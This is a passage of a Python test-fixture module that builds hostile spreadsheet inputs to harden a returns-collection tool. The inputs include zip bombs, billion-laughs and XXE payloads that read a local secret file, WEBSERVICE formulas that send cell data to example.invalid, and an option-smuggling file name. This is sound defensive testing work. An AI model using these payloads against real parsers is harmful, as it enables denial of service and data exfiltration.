"""The bad-input corpus: every kind of file `collect` must survive, made by code.

Each :class:`Kind` writes its file (or files) into a folder of its own, starting
from a real template filled by openpyxl (returns_kit) and then broken the way it
happens: a person in Excel, a program, a mail client, an attacker. Zip containers
are assembled byte by byte here (:func:`raw_zip`) where a header must lie or a
member must be a bomb; nothing is an opaque blob. `code` is the problem code
finance must read for the file; `accepted` says whether its answers still count.

Used by tests/test_hardening.py; the table of kinds is in docs/guarantees.md.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

from returns_kit import (
    BIFF8_BOF,
    FIXED_TIME,
    Kit,
    _id_for,
    cell_of,
    edit,
    hide_formula,
    ods_bytes,
    ole2,
    rewrite_zip,
    set_meta,
    shift_rows,
    xlsb_bytes,
)
from synthetic import synthetic_answers

from workbook_tools.model import Smiley
from workbook_tools.template import META_SHEET, template_file_name, write_manifest, write_template

SHEET = "Opfølgning"
SECRET = "HEMMELIGT-INDHOLD-4f1d9c"  # what an external entity would smuggle out, if it were ever read
GOOD_ANSWERS_FOR = "Udvalg 02"  # the committee whose good return lies beside the corpus in the end-to-end run


# --- zip containers byte by byte ------------------------------------------------------------


@dataclass(frozen=True)
class RawMember:
    """One zip member as stored: its compressed bytes and what its headers claim."""

    name: str
    data: bytes
    crc: int
    size: int  # declared uncompressed size, in the local header and the central directory
    method: int = 8  # 0 stored, 8 deflate
    flags: int = 0


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def member(name: str, data: bytes) -> RawMember:
    return RawMember(name, deflate(data), zlib.crc32(data), len(data))


def members_of(xlsx: bytes) -> list[RawMember]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [member(i.filename, z.read(i.filename)) for i in z.infolist()]


def raw_zip(members: list[RawMember]) -> bytes:
    """A zip file holding `members` exactly as given, lies included (no zip64)."""
    out = io.BytesIO()
    central = []
    for m in members:
        name = m.name.encode("utf-8")
        offset = out.tell()
        fields = (20, m.flags | 0x800, m.method, 0, 0x21, m.crc, len(m.data), m.size)
        out.write(b"PK\x03\x04" + struct.pack("<HHHHHIII", *fields) + struct.pack("<HH", len(name), 0) + name)
        out.write(m.data)
        central.append(
            b"PK\x01\x02" + struct.pack("<HHHHHHIII", 20, *fields) + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, offset) + name
        )
    start = out.tell()
    out.write(b"".join(central))
    size = out.tell() - start
    count = min(len(members), 0xFFFF)  # readers trust the directory's size, not this count
    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, size, start, 0))
    return out.getvalue()


def zero_bomb(name: str, gib: int = 2) -> RawMember:
    """A member of `gib` GiB of zeros in about `gib` MB: one deflated MiB of zeros, repeated.

    After a full flush a deflate block refers to nothing before it, so the same bytes
    can be laid one after the other; the empty final block ends the stream.
    """
    zeros = bytes(1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(gib * 1024):
        crc = zlib.crc32(zeros, crc)
    size = gib << 30
    return RawMember(name, block * (gib * 1024) + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), crc, min(size, 0xFFFFFFFF))


# --- the corpus -----------------------------------------------------------------------------


class Corpus:
    """Templates and good returns to break, a manifest, and a secret file an XXE would read."""

    def __init__(self, root: Path, agreement, texts):
        self.root = root
        self.kit = Kit(root / "kit", agreement, texts)
        self.agreement = agreement
        self.texts = texts
        made = [
            write_template(
                agreement,
                c,
                1,
                self.kit.templates / template_file_name(self.kit.agreement, c.name, 1),
                texts,
                template_id=_id_for(c.name, "", 1),
                generated_at=FIXED_TIME,
            )
            for c in agreement.committees
        ]
        self.manifest = write_manifest(self.kit.templates, made)
        self.secret = root / "secret.txt"
        self.secret.write_text(SECRET + "\n")
        self._good: dict[tuple, bytes] = {}
        self._n = 0

    def plan(self, committee: str = "Udvalg 01"):
        return self.kit.plan(committee)

    def good(self, committee: str = "Udvalg 01", answers=None, author: str = "", round_number: int = 1) -> bytes:
        """A correctly filled return's bytes (made once per kind of answers)."""
        key = (committee, repr(answers), author, round_number)
        if key not in self._good:
            self._n += 1
            path = self.kit.filled(f"good-{self._n}.xlsx", committee, answers, author=author, round_number=round_number)
            self._good[key] = path.read_bytes()
        return self._good[key]

    def good_file(self, folder: Path, name: str, **kw) -> Path:
        path = folder / name
        path.write_bytes(self.good(**kw))
        return path

    def edited(self, folder: Path, name: str, change: Callable, **kw) -> Path:
        """A good return changed with openpyxl, as a person in Excel would."""
        return edit(self.good_file(folder, name, **kw), change)

    def zipped(self, folder: Path, name: str, **changes) -> Path:
        """A good return with zip members rewritten (see returns_kit.rewrite_zip)."""
        return rewrite_zip(self.good_file(folder, name), **changes)


@dataclass(frozen=True)
class Kind:
    """One kind of bad (or merely odd) input and what finance must read about it."""

    name: str
    what: str
    code: str | None  # the problem code the file gets; None: no problem at all
    accepted: bool  # whether the file's answers still count
    make: Callable[[Corpus, Path], object]
    nobody: bool = False  # check it as an unprivileged user (chmod 000 means nothing to root)


# --- makers -------------------------------------------------------------------------------


def _bytes(data: bytes, name: str = "runde-1_Udvalg-01.xlsx"):
    def make(c: Corpus, folder: Path):
        (folder / name).write_bytes(data() if callable(data) else data)

    return make


def _truncated(c: Corpus, folder: Path):
    data = c.good()
    (folder / "afbrudt-download.xlsx").write_bytes(data[: len(data) // 2])


def _random_bytes(c: Corpus, folder: Path):
    (folder / "runde-1_Udvalg-01.xlsx").write_bytes(hashlib.sha512(b"x").digest() * 64 + b"\x00" * 16)


def _bomb_declared(c: Corpus, folder: Path):
    parts = members_of(c.good())
    parts.append(zero_bomb("xl/media/image1.png"))
    (folder / "bombe.xlsx").write_bytes(raw_zip(parts))


def _bomb_lying(c: Corpus, folder: Path):
    """The sheet's headers say 17 kB, with the checksum of those 17 kB; its stream inflates to 100 MB."""
    parts = members_of(c.good())
    i = next(k for k, m in enumerate(parts) if m.name == "xl/worksheets/sheet1.xml")
    real = zlib.decompress(parts[i].data, -15)
    padded = real.replace(b"<sheetData>", b"<sheetData>" + b" " * 100_000_000, 1)
    parts[i] = replace(parts[i], data=deflate(padded), crc=zlib.crc32(padded[: len(real)]), size=len(real))
    (folder / "loegn.xlsx").write_bytes(raw_zip(parts))


def _bomb_in_sharedstrings(c: Corpus, folder: Path):
    """Valid XML that deflates 1000:1 with a header that lies: one string, repeated 4 million times."""
    parts = members_of(c.good())
    body = b"<si><t>aaaaaaaaaa</t></si>" * 4_000_000
    xml = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + body + b"</sst>"
    head = xml[:1000]
    parts.append(RawMember("xl/sharedStrings.xml", deflate(xml), zlib.crc32(head), len(head)))
    (folder / "strenge.xlsx").write_bytes(raw_zip(parts))


def _many_members(c: Corpus, folder: Path):
    parts = members_of(c.good())
    parts += [member(f"xl/media/image{i}.png", b"\x89PNG") for i in range(5_000)]
    (folder / "mange-dele.xlsx").write_bytes(raw_zip(parts))


def _huge_directory(c: Corpus, folder: Path):
    """400,000 empty parts in 44 MB: Python's zipfile would take seconds and hundreds of MB just to list them."""
    parts = members_of(c.good()) + [RawMember(f"xl/media/image{i}.png", b"", 0, 0, method=0) for i in range(400_000)]
    (folder / "indholdsfortegnelse.xlsx").write_bytes(raw_zip(parts))


def _duplicate_member(c: Corpus, folder: Path):
    """Two members called sheet1.xml: one reader could check the first while another takes the second."""
    parts = members_of(c.good())
    sheet = next(m for m in parts if m.name == "xl/worksheets/sheet1.xml")
    xml = zlib.decompress(sheet.data, -15).replace(b"Milep\xc3\xa6l 1 for element 1.02", b"Aendret milepael", 1)
    parts.append(member("xl/worksheets/sheet1.xml", xml))
    (folder / "dobbelt-del.xlsx").write_bytes(raw_zip(parts))


def _encrypted_member(c: Corpus, folder: Path):
    parts = [replace(m, flags=1) if m.name == "xl/workbook.xml" else m for m in members_of(c.good())]
    (folder / "zip-kode.xlsx").write_bytes(raw_zip(parts))


def _odd_compression(c: Corpus, folder: Path):
    import bz2

    parts = members_of(c.good())
    i = next(k for k, m in enumerate(parts) if m.name == "xl/workbook.xml")
    raw = zlib.decompress(parts[i].data, -15)
    parts[i] = replace(parts[i], data=bz2.compress(raw), method=12)
    (folder / "bzip2.xlsx").write_bytes(raw_zip(parts))


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(2, 10))
    + "]>"
)


def _with_doctype(xml: bytes, doctype: str) -> bytes:
    """`xml` with a DOCTYPE after its declaration, and its first text replaced by an entity reference."""
    xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
    entity = re.findall(r"<!ENTITY (\w+)", doctype)[-1]
    xml = re.sub(rb"<t>[^<]*</t>", f"<t>&{entity};</t>".encode(), xml, count=1) if b"<t>" in xml else xml
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + doctype.encode() + xml


def _laughs_in(part: str):
    def make(c: Corpus, folder: Path):
        key = part.replace("/", "__").replace(".", "_dot_")
        c.zipped(folder, "latter.xlsx", **{key: lambda x: _with_doctype(x, _LAUGHS)})

    return make


def _xxe_in(part: str):
    def make(c: Corpus, folder: Path):
        doctype = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{c.secret}">]>'
        key = part.replace("/", "__").replace(".", "_dot_")

        def inject(x: bytes) -> bytes:
            x = _with_doctype(x, doctype)
            return x if b"&xxe;" in x else re.sub(rb"(<vt:lpwstr>)[^<]*", rb"\1&xxe;", x, count=1)

        c.zipped(folder, "xxe.xlsx", **{key: inject})

    return make


def _macro(c: Corpus, folder: Path):
    c.zipped(folder, "runde-1_Udvalg-01.xlsm", add={"xl/vbaProject.bin": ole2({"VBA": b"Attribute VB_Name"})})


def _folder_named_xlsx(c: Corpus, folder: Path):
    """A workbook unzipped into a folder that kept the workbook's name."""
    target = folder / "runde-1_Udvalg-01.xlsx"
    target.mkdir()
    with zipfile.ZipFile(io.BytesIO(c.good())) as z:
        z.extractall(target)


def _symlink(c: Corpus, folder: Path):
    real = c.root / "elsewhere.xlsx"
    real.write_bytes(c.good())
    (folder / "genvej.xlsx").symlink_to(real)


def _symlink_loop(c: Corpus, folder: Path):
    (folder / "løkke.xlsx").symlink_to("løkke.xlsx")


def _symlink_folder(c: Corpus, folder: Path):
    elsewhere = c.root / "andre-svar"
    elsewhere.mkdir(exist_ok=True)
    (elsewhere / "svar.xlsx").write_bytes(c.good())
    (folder / "genvej-til-mappe").symlink_to(elsewhere, target_is_directory=True)


def _fifo(c: Corpus, folder: Path):
    os.mkfifo(folder / "rør.xlsx")


def _unreadable(c: Corpus, folder: Path):
    path = c.good_file(folder, "laast.xlsx")
    path.chmod(0)


def _unreadable_folder(c: Corpus, folder: Path):
    inner = folder / "lukket-mappe"
    inner.mkdir()
    c.good_file(inner, "svar.xlsx")
    inner.chmod(0)


def _named(name: str):
    return lambda c, folder: c.good_file(folder, name)


def _rows_appended(n: int, col: str = "A", start: int = 200):
    """Rows of distinct text below the template, as a paste of an export puts them (not a bomb: ~15:1)."""

    def grow(xml: bytes) -> bytes:
        letter = col.encode()
        rows = b"".join(
            b'<row r="%d"><c r="%s%d" t="inlineStr"><is><t>Post %d</t></is></c></row>' % (r, letter, r, r * 7919 % 1000003)
            for r in range(start, start + n)
        )
        return xml.replace(b"</sheetData>", rows + b"</sheetData>", 1)

    return grow


def _million_rows(c: Corpus, folder: Path):
    c.zipped(folder, "million.xlsx", xl__worksheets__sheet1_dot_xml=_rows_appended(1_000_000))


def _pasted_rows(c: Corpus, folder: Path):
    """140,000 rows pasted in column G: just inside the limit, so the sheet is loaded and checked."""
    c.zipped(folder, "indsat-eksport.xlsx", xl__worksheets__sheet1_dot_xml=_rows_appended(140_000, "G"))


def _far_cell(c: Corpus, folder: Path):
    """One character typed in the very last cell of the sheet (Ctrl+End, Ctrl+Down, type)."""
    cell = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    c.zipped(folder, "sidste-celle.xlsx", xl__worksheets__sheet1_dot_xml=lambda x: x.replace(b"</sheetData>", cell, 1))


def _far_cell_in_odd_part(c: Corpus, folder: Path):
    """The last-cell sheet stored as xl/worksheets/data.bin: readers follow the relationship, not the name."""
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    parts = []
    for m in members_of(c.good()):
        data = zlib.decompress(m.data, -15)
        if m.name == "xl/worksheets/sheet1.xml":
            parts.append(member("xl/worksheets/data.bin", data.replace(b"</sheetData>", far, 1)))
        elif m.name == "xl/_rels/workbook.xml.rels":
            parts.append(member(m.name, data.replace(b"worksheets/sheet1.xml", b"worksheets/data.bin")))
        else:
            parts.append(m)
    (folder / "skjult-del.xlsx").write_bytes(raw_zip(parts))


def _million_rows_extra_sheet(c: Corpus, folder: Path):
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, r) for r in range(1, 1_000_001))
        + b"</sheetData></worksheet>"
    )
    rel = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet99.xml"/>'
    c.zipped(
        folder,
        "med-data.xlsx",
        xl__workbook_dot_xml=lambda x: x.replace(b"</sheets>", b'<sheet name="Data" sheetId="99" r:id="rId99"/></sheets>', 1),
        xl___rels__workbook_dot_xml_dot_rels=lambda x: x.replace(b"</Relationships>", rel + b"</Relationships>", 1),
        add={"xl/worksheets/sheet99.xml": sheet},
    )


def _type_into(ref_of: Callable[[Corpus], str], value, as_text: bool = True, unprotect: bool = False):
    def make(c: Corpus, folder: Path):
        ref = ref_of(c)

        def typing(wb):
            ws = wb[SHEET]
            if unprotect:
                ws.protection.sheet = False
            ws[ref] = value
            if as_text and isinstance(value, str):
                ws[ref].data_type = "s"

        c.edited(folder, "svar.xlsx", typing)

    return make


def _status(c: Corpus) -> str:
    return cell_of(c.plan(), "1.02", "status", 1)


def _long_text(c: Corpus, folder: Path):
    ref = _status(c)
    path = _type_into(_status, "kort")(c, folder) or folder / "svar.xlsx"

    def lengthen(xml: bytes) -> bytes:
        return re.sub(rf'(<c r="{ref}"[^>]*><is><t>)kort(</t>)'.encode(), lambda m: m.group(1) + "æ".encode() * 40_000 + m.group(2), xml)

    rewrite_zip(path, xl__worksheets__sheet1_dot_xml=lengthen)


def _external_link(c: Corpus, folder: Path):
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    c.zipped(folder, "kaede.xlsx", add={"xl/externalLinks/externalLink1.xml": link})


def _formulas_outside_cells(c: Corpus, folder: Path):
    """A name and a colour rule whose formulas call out when the file is opened, cells untouched."""
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import PatternFill
    from openpyxl.workbook.defined_name import DefinedName

    def change(wb):
        wb.defined_names["Hent"] = DefinedName("Hent", attr_text='WEBSERVICE("http://example.invalid/navn")')
        wb[SHEET].conditional_formatting.add(
            "H1:H2", FormulaRule(formula=['WEBSERVICE("http://example.invalid/farve")<>""'], fill=PatternFill(bgColor="FF0000"))
        )

    c.edited(folder, "navne.xlsx", change)


def _hidden_formula(place: str):
    return lambda c, folder: hide_formula(c.good_file(folder, f"gemt-{place}.xlsx"), place)


def _hide(sheet: str, state: str):
    def change(wb):
        if state != "visible":
            wb.create_sheet("Ark2")  # Excel hides no sheet while it is the only one visible
        wb[sheet].sheet_state = state

    return lambda c, folder: c.edited(folder, "skjult.xlsx", change)


def _delete_follow_up_sheet(c: Corpus, folder: Path):
    def change(wb):
        wb.create_sheet("Ark1")
        wb.remove(wb[SHEET])

    c.edited(folder, "uden-ark.xlsx", change)


def _row_inserted(c: Corpus, folder: Path):
    c.edited(folder, "indsat.xlsx", lambda wb: shift_rows(wb[SHEET], c.plan().element_rows["1.02"] + 1))


def _row_deleted(c: Corpus, folder: Path):
    row = int(cell_of(c.plan(), "1.01", "milestone", 2)[1:])
    c.edited(folder, "slettet.xlsx", lambda wb: wb[SHEET].delete_rows(row))


def _rows_sorted(c: Corpus, folder: Path):
    plan = c.plan()
    first, second = plan.element_rows["1.01"] + 1, plan.element_rows["1.03"] + 1

    def sort(wb):
        ws = wb[SHEET]
        for col in "AB":
            ws[f"{col}{first}"], ws[f"{col}{second}"] = ws[f"{col}{second}"].value, ws[f"{col}{first}"].value

    c.edited(folder, "sorteret.xlsx", sort)


def _milestone_edited(c: Corpus, folder: Path):
    ref = cell_of(c.plan(), "1.02", "milestone", 1)

    def change(wb):
        ws = wb[SHEET]
        ws.protection.sheet = False
        ws[ref] = "Milepælen er nået (rettet af centret)"
        ws.protection.sheet = True

    c.edited(folder, "milepael.xlsx", change)


def _formula_in_locked_cell(c: Corpus, folder: Path):
    """A formula typed in an empty locked cell; openpyxl stores it without a cached result."""
    row = c.plan().element_rows["1.02"] + 3

    def change(wb):
        ws = wb[SHEET]
        ws.protection.sheet = False
        ws.cell(row + 1, 8).value = '=WEBSERVICE("http://example.invalid/?"&B5)'

    c.edited(folder, "formel-laast.xlsx", change)


def _formula_swapped(c: Corpus, folder: Path):
    """The smiley glyph's formula replaced by one that would call out when Excel recalculates."""
    glyph = next(x.ref for x in c.plan().cells if x.element == "1.01" and x.formula and x.round == 1)

    def change(wb):
        ws = wb[SHEET]
        ws.protection.sheet = False
        ws[glyph] = '=WEBSERVICE("http://example.invalid/?"&B5)'

    c.edited(folder, "formel-byttet.xlsx", change)


def _meta(name: str, sheet: bool = True, properties: bool = True, **values):
    return lambda c, folder: set_meta(c.good_file(folder, name), sheet=sheet, properties=properties, **values)


def _meta_sheet_deleted(c: Corpus, folder: Path):
    c.edited(folder, "uden-metaark.xlsx", lambda wb: wb.remove(wb[META_SHEET]))


def _no_properties(c: Corpus, folder: Path):
    c.zipped(folder, "uden-egenskaber.xlsx", docProps__custom_dot_xml=lambda x: None)


def _no_identity(c: Corpus, folder: Path):
    path = c.edited(folder, "anonym.xlsx", lambda wb: wb.remove(wb[META_SHEET]))
    rewrite_zip(path, docProps__custom_dot_xml=lambda x: None)


def _wrong_round(c: Corpus, folder: Path):
    (folder / "runde-2_Udvalg-01.xlsx").write_bytes(c.good(round_number=2))


def _other_committees_id(c: Corpus, folder: Path):
    """Udvalg 02's return carrying the id Udvalg 01's template was made with."""
    path = c.good_file(folder, "laant-id.xlsx", committee="Udvalg 02")
    set_meta(path, template_id=_id_for("Udvalg 01", "", 1))


def _same_id_different_answers(c: Corpus, folder: Path):
    """One template, filled twice by two people who disagree on 1.01."""
    other = [
        replace(a, progress=Smiley.RED, status="Forsinket.") if a.element == "1.01" else a
        for a in synthetic_answers(c.agreement, "Udvalg 01", 1)
    ]
    c.good_file(folder, "fra-anne.xlsx", author="Anne")
    (folder / "fra-bo.xlsx").write_bytes(c.good(answers=other, author="Bo"))


def _same_file_twice(c: Corpus, folder: Path):
    c.good_file(folder, "svar.xlsx")
    (folder / "kopi").mkdir()
    c.good_file(folder / "kopi", "svar.xlsx")


def _broken_xml(c: Corpus, folder: Path):
    c.zipped(folder, "halv-xml.xlsx", xl__worksheets__sheet1_dot_xml=lambda x: x[: len(x) // 2])


def _mail(attachments: list[tuple[str, Callable[[Corpus], bytes]]], name: str = "svar.eml"):
    def make(c: Corpus, folder: Path):
        msg = EmailMessage(policy=SMTP)
        msg["From"] = "Søren Sørensen <soren@example.invalid>"
        msg["To"] = "okonomi@example.invalid"
        msg["Subject"] = "SV: Opfølgning"
        msg["Date"] = "Mon, 10 Mar 2031 10:00:00 +0100"
        msg.set_content("Hermed vores svar.")
        for filename, data in attachments:
            msg.add_attachment(data(c), maintype="application", subtype="octet-stream", filename=filename)
        (folder / name).write_bytes(msg.as_bytes())

    return make


def _outlook_msg_with_bomb(c: Corpus, folder: Path):
    from msgfile import MsgAttachment, outlook_msg

    data = outlook_msg(
        "SV: Opfølgning",
        "Søren Sørensen",
        "soren@example.invalid",
        [("Økonomi", "okonomi@example.invalid")],
        [MsgAttachment("svar.xlsx", _bomb_bytes(c))],
    )
    (folder / "svar.msg").write_bytes(data)


def _bomb_bytes(c: Corpus) -> bytes:
    return raw_zip(members_of(c.good()) + [zero_bomb("xl/media/image1.png", 1)])


def _protection_removed(c: Corpus, folder: Path):
    c.edited(folder, "ubeskyttet.xlsx", lambda wb: setattr(wb[SHEET].protection, "sheet", False))


def _invalid_smiley(c: Corpus, folder: Path):
    _type_into(lambda c: cell_of(c.plan(), "1.01", "progress", 1), "Blå")(c, folder)


def _encrypted(c: Corpus) -> bytes:
    return ole2({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": b"\x00" * 64})


KINDS: list[Kind] = [
    # what the file is
    Kind("empty", "a 0-byte file named like a return", "empty-file", False, _bytes(b"")),
    Kind("text", "a letter saved as .xlsx", "not-a-workbook", False, _bytes("Kære Økonomi\n\nHer er vores svar.\n".encode())),
    Kind("csv", "a CSV export renamed .xlsx", "csv-file", False, _bytes("Nummer;Smiley;Status\r\n1.01;Grøn;Fint\r\n".encode("cp1252"))),
    Kind("pdf", "a PDF renamed .xlsx", "not-a-workbook", False, _bytes(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n")),
    Kind(
        "html",
        "a web page saved as .xls",
        "not-a-workbook",
        False,
        _bytes(b"<html><body><table><tr><td>1.01</td></tr></table></body></html>", "svar.xls"),
    ),
    Kind("random", "random bytes named .xlsx", "not-a-workbook", False, _random_bytes),
    Kind("truncated", "a return cut off halfway (a broken download)", "broken-workbook", False, _truncated),
    Kind("broken-xml", "a valid zip whose sheet XML stops halfway", "broken-workbook", False, _broken_xml),
    Kind(
        "encrypted",
        "a workbook saved with a password (OLE2, EncryptionInfo)",
        "encrypted-workbook",
        False,
        lambda c, f: (f / "kode.xlsx").write_bytes(_encrypted(c)),
    ),
    Kind("xls", "a legacy .xls (BIFF8)", "legacy-xls", False, _bytes(ole2({"Workbook": BIFF8_BOF}), "svar.xls")),
    Kind("xlsm", "the template saved with a macro", "macro-workbook", False, _macro),
    Kind("xlsb", "a binary .xlsb", "binary-workbook", False, _bytes(xlsb_bytes(), "svar.xlsb")),
    Kind("ods", "an OpenDocument spreadsheet", "ods-workbook", False, _bytes(ods_bytes(), "svar.ods")),
    # the container: limits before any XML is parsed
    Kind("zip-bomb", "a member that inflates to 2 GiB of zeros from 2 MB", "unsafe-workbook", False, _bomb_declared),
    Kind("zip-lying-size", "a sheet whose headers say 17 kB but whose stream inflates to 100 MB", "unsafe-workbook", False, _bomb_lying),
    Kind("zip-lying-strings", "shared strings of 100 MB behind a header that says 1 kB", "unsafe-workbook", False, _bomb_in_sharedstrings),
    Kind("zip-many", "a zip with 5,000 members", "unsafe-workbook", False, _many_members),
    Kind("zip-huge-directory", "a zip listing 400,000 parts in 44 MB", "unsafe-workbook", False, _huge_directory),
    Kind("zip-duplicate", "two members with the same name (one with a milestone edited)", "unsafe-workbook", False, _duplicate_member),
    Kind("zip-encrypted-member", "a zip member with the encryption flag set", "unsafe-workbook", False, _encrypted_member),
    Kind("zip-bzip2", "a member compressed with bzip2, which Excel never writes", "unsafe-workbook", False, _odd_compression),
    Kind("laughs-workbook", "billion laughs in xl/workbook.xml", "unsafe-workbook", False, _laughs_in("xl/workbook.xml")),
    Kind("laughs-sheet", "billion laughs in the sheet XML", "unsafe-workbook", False, _laughs_in("xl/worksheets/sheet1.xml")),
    Kind(
        "xxe-sheet",
        "an external entity reading a local file, in the sheet XML",
        "unsafe-workbook",
        False,
        _xxe_in("xl/worksheets/sheet1.xml"),
    ),
    Kind(
        "xxe-properties",
        "an external entity reading a local file, in the custom properties",
        "unsafe-workbook",
        False,
        _xxe_in("docProps/custom.xml"),
    ),
    Kind("million-rows", "a million rows of text pasted under the follow-up sheet", "unsafe-workbook", False, _million_rows),
    Kind("last-cell", "one character typed in cell XFD1048576", "unsafe-workbook", False, _far_cell),
    Kind("last-cell-odd-part", "the last-cell sheet stored under a name that is not .xml", "unsafe-workbook", False, _far_cell_in_odd_part),
    Kind("pasted-rows", "140,000 rows pasted in column G, just inside the limit", "locked-cell-changed", False, _pasted_rows),
    Kind("million-rows-extra-sheet", "an added sheet with a million rows", "sheet-added-or-removed", True, _million_rows_extra_sheet),
    # the file system
    Kind("folder", "a folder named runde-1_Udvalg-01.xlsx (an unzipped workbook)", "not-a-file", False, _folder_named_xlsx),
    Kind("symlink", "a symbolic link to a return elsewhere", "not-a-file", False, _symlink),
    Kind("symlink-loop", "a symbolic link that points at itself", "not-a-file", False, _symlink_loop),
    Kind("symlink-folder", "a symbolic link to a folder of returns elsewhere", "not-a-file", False, _symlink_folder),
    Kind("fifo", "a named pipe called .xlsx (reading it would wait forever)", "not-a-file", False, _fifo),
    Kind("unreadable", "a file without read permission (chmod 000)", "unreadable-file", False, _unreadable, nobody=True),
    Kind("unreadable-folder", "a folder of returns without read permission", "unreadable-file", False, _unreadable_folder, nobody=True),
    Kind("name-danish", "a good return named with æøå and spaces", None, True, _named("Svar fra Økonomi og Børn – runde 1 (endelig).xlsx")),
    Kind("name-250", "a good return with a 250-character name", None, True, _named(("Svar fra udvalget " * 14)[:245] + ".xlsx")),
    Kind("name-dashes", "a good return whose name starts with dashes", None, True, _named("--help -rf.xlsx")),
    # the answers
    Kind("long-text", "a 40,000-character status text", "text-too-long", False, _long_text),
    Kind(
        "formula-status",
        "a formula in a status cell",
        "formula-in-input",
        False,
        _type_into(_status, '=HYPERLINK("http://example.invalid","klik")', as_text=False),
    ),
    Kind(
        "formula-locked", "a formula without a cached value in an empty locked cell", "locked-cell-changed", False, _formula_in_locked_cell
    ),
    Kind("formula-swapped", "the smiley glyph's formula replaced by another formula", "locked-cell-changed", False, _formula_swapped),
    Kind("invalid-smiley", "a smiley that is no smiley ('Blå')", "invalid-smiley", False, _invalid_smiley),
    Kind("external-link", "a link to another workbook", "external-link", True, _external_link),
    Kind(
        "formulas-outside", "a defined name and a colour rule with formulas added", "formulas-outside-cells", True, _formulas_outside_cells
    ),
    Kind("formula-print-titles", "the print titles' name made a formula", "formulas-outside-cells", True, _hidden_formula("titel")),
    Kind(
        "formula-second-bound",
        "a dropdown given a second bound that is a formula",
        "formulas-outside-cells",
        True,
        _hidden_formula("graense"),
    ),
    Kind(
        "formula-x14-rule",
        "a colour rule in Excel's x14 extension form with a formula",
        "formulas-outside-cells",
        True,
        _hidden_formula("x14"),
    ),
    Kind("formula-colour-scale", "a colour scale whose threshold is a formula", "formulas-outside-cells", True, _hidden_formula("skala")),
    # the structure
    Kind(
        "sheet-added",
        "a sheet of notes added",
        "sheet-added-or-removed",
        True,
        lambda c, f: c.edited(f, "noter.xlsx", lambda wb: wb.create_sheet("Noter").cell(1, 1, "mine noter")),
    ),
    Kind("sheet-removed", "the follow-up sheet deleted", "sheet-missing", False, _delete_follow_up_sheet),
    Kind(
        "sheet-renamed",
        "the follow-up sheet renamed",
        "sheet-renamed",
        True,
        lambda c, f: c.edited(f, "omdoebt.xlsx", lambda wb: setattr(wb[SHEET], "title", "Vores svar")),
    ),
    Kind("sheet-hidden", "the follow-up sheet hidden", "sheet-hidden", True, _hide(SHEET, "hidden")),
    Kind("meta-unhidden", "the hidden metadata sheet made visible", "sheet-hidden", True, _hide(META_SHEET, "visible")),
    Kind("row-inserted", "a row inserted inside element 1.02", "rows-moved", False, _row_inserted),
    Kind("row-deleted", "a row deleted inside element 1.01", "rows-moved", False, _row_deleted),
    Kind("rows-sorted", "two elements swapped by a sort", "rows-moved", False, _rows_sorted),
    Kind("locked-edited", "a milestone edited with the protection off and on again", "locked-cell-changed", False, _milestone_edited),
    Kind("protection-removed", "the sheet protection removed", "protection-removed", True, _protection_removed),
    # the identity
    Kind("meta-deleted", "the hidden metadata sheet deleted", "sheet-added-or-removed", True, _meta_sheet_deleted),
    Kind(
        "meta-edited",
        "the committee edited in the hidden sheet only",
        "metadata-changed",
        False,
        _meta("meta.xlsx", properties=False, committee="Udvalg 02"),
    ),
    Kind("properties-removed", "the custom document properties removed", "properties-removed", True, _no_properties),
    Kind("no-identity", "both the metadata sheet and the properties removed", "unknown-template", False, _no_identity),
    Kind("wrong-year", "the template for another year", "wrong-year", False, _meta("aar.xlsx", year="2030")),
    Kind(
        "wrong-committee",
        "the template of a committee not in the master",
        "wrong-committee",
        False,
        _meta("udvalg.xlsx", committee="Udvalg 99"),
    ),
    Kind("wrong-round", "last round's template", "wrong-round", False, _wrong_round),
    Kind("unknown-id", "a template id that was never generated", "unknown-template-id", True, _meta("id.xlsx", template_id="f" * 32)),
    Kind("borrowed-id", "another committee's template id", "template-id-mismatch", False, _other_committees_id),
    Kind(
        "same-id-other-answers", "one template filled twice with different answers", "conflicting-return", True, _same_id_different_answers
    ),
    Kind("same-file-twice", "the same file twice, in two folders", "duplicate-return", True, _same_file_twice),
    # by e-mail
    Kind("mail-bomb", "an e-mail whose attachment is a zip bomb", "unsafe-workbook", False, _mail([("svar.xlsx", _bomb_bytes)])),
